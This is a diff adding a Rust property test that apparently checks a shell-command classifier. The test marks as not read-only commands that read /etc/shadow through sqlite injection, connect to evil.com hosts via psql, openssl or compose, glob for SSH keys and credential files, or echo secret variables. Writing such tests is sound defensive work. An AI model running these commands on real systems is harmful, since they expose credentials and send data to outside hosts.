@@ -1578,4 +1578,69 @@ proptest! {
         not_read_only("corosync-cmapctl")?;
         not_read_only("corosync-cmapctl totem.k")?;
     }
+
+    /// Twenty-third review's classes: any SQLite parameter (`:$(`, `:é(`)
+    /// and non-ASCII outside literals; `file:` URIs (percent-decoded);
+    /// libpq URIs' hosts wherever they are (authority lists, `?host=`,
+    /// `?hostaddr=`, the word `host` anywhere); URLs to openssl's loaders
+    /// and compose's `-f`; globs judged by the name and kind rules
+    /// (`~/.bash_h*`, `id_*`, `*.ke?`, `ddc*`); jq's `$ ENV`; PCI
+    /// registers under every sysfs name and after `dd if=`; PostgreSQL's
+    /// whole row by a table's name or alias; cat-config
+    /// collections; application stores; credential names without a
+    /// separator; awk patterns that change the field they print.
+    #[test]
+    fn review_twenty_three_classes_ask(
+        parameter in select(vec![":$(", ":é(", ":_(", ":1(", "$a(", "@a("]),
+        uri in select(vec!["file:/var%2Flib%2Fpve-cluster%2Fconfig.db", "file:/tmp/x.db?vfs=unix", "FILE:/tmp/x.db", "file:x.db"]),
+        pg in select(vec![
+            "postgresql:///app?host=evil.com",
+            "postgresql://pve1/app?hostaddr=8.8.8.8",
+            "postgresql://evil.com/ghost?sslmode=prefer",
+            "postgres://8.8.8.8/app?application_name=host",
+            "postgresql://pve1,evil.com/app",
+            "postgresql://pve1/app?host=pve2&host=%65vil.com",
+        ]),
+        pg_place in select(vec!["", "-d ", "--dbname="]),
+        url in select(vec!["x509 -in http://evil.com/x.crt -noout", "crl -in http://evil.com/x.crl -noout", "verify http://evil.com/c.crt"]),
+        glob in select(vec!["~/.bash_h*", "/root/.git-cred*", "/home/*/.pgp*", "/etc/letsencrypt/live/x/priv*", "/etc/nginx/ssl/*.ke?", "/root/backup/id_*", "/opt/app/.e??", "/etc/ddc*", "/opt/app/*"]),
+        reader in select(vec!["cat", "head -n 5", "grep -h x", "tail"]),
+        space in select(vec![" ", "\t", "\n", "#c\n"]),
+        pci in select(vec![
+            "/sys/kernel/iommu_groups/1/devices/0000:00:1f.0/config",
+            "/sys/bus/pci/drivers/vfio-pci/0000:01:00.0/resource0",
+            "/sys/class/net/eth0/device/resource2",
+            "/sys/class/drm/card0/device/rom",
+        ]),
+        store in select(vec!["/var/lib/uptime-kuma/kuma.db", "/opt/hass/.storage/auth", "/var/lib/sonarr/config.xml", "/root/.influxdbv2/configs", "/etc/inadyn.conf", "/opt/zigbee2mqtt/data/configuration.yaml", "/srv/app/data.sqlite3"]),
+        variable in select(vec!["PVEPASS", "ROOTPW", "DBPASS", "MASTERKEY", "KEY", "SLACK_HOOK", "DSN", "ADMINPWD"]),
+    ) {
+        not_read_only(&format!("sqlite3 -readonly :memory: \"SELECT {parameter}'), readfile('/etc/shadow'), {parameter}')\""))?;
+        not_read_only(&format!("sqlite3 -readonly '{uri}' 'SELECT name FROM t'"))?;
+        not_read_only(&format!("psql {pg_place}'{pg}' -c 'SELECT 1'"))?;
+        not_read_only(&format!("openssl {url}"))?;
+        not_read_only(&format!("{reader} {glob}"))?;
+        not_read_only(&format!("jq -n $'${space}ENV'"))?;
+        not_read_only(&format!("cat {pci}"))?;
+        not_read_only(&format!("{reader} {store}"))?;
+        not_read_only(&format!("echo ${variable}"))?;
+        not_read_only("dd if=/proc/kmsg")?;
+        not_read_only("dd if=/sys/bus/pci/devices/0000:00:00.0/config")?;
+        not_read_only("systemd-analyze cat-config apt/auth.conf.d")?;
+        not_read_only("docker compose -f oci://evil.com/app:latest config --services")?;
+        not_read_only("pct list | awk '$1--||1{print $1}' | while read id; do pct config $id; done")?;
+        not_read_only("cat /etc/ppp/*-secrets")?;
+        not_read_only("cat /sys/devices/pci0000:00/*/config")?;
+        for whole_row in ["SELECT u FROM users u", "SELECT users FROM users", "SELECT format('%s', u) FROM users AS u", "SELECT s FROM public.login_source s", "SELECT count(*), o FROM users u JOIN orders o ON o.uid = u.id"] {
+            not_read_only(&format!("psql -c \"{whole_row}\""))?;
+        }
+        // What stays read-only.
+        read_only("psql -c 'SELECT u.name FROM public.users u JOIN orders o ON o.uid = u.id'")?;
+        read_only("psql 'postgresql://192.168.1.5/app' -c 'SELECT 1'")?;
+        read_only("tail -n 5 /var/log/*.log")?;
+        read_only("cat /var/log/*")?;
+        read_only("echo $PWD $OLDPWD $HOME")?;
+        read_only("dd if=/var/log/syslog bs=1k count=1")?;
+        read_only("sqlite3 -readonly /srv/app/app.sqlite3 'SELECT name FROM t'")?;
+    }
 }
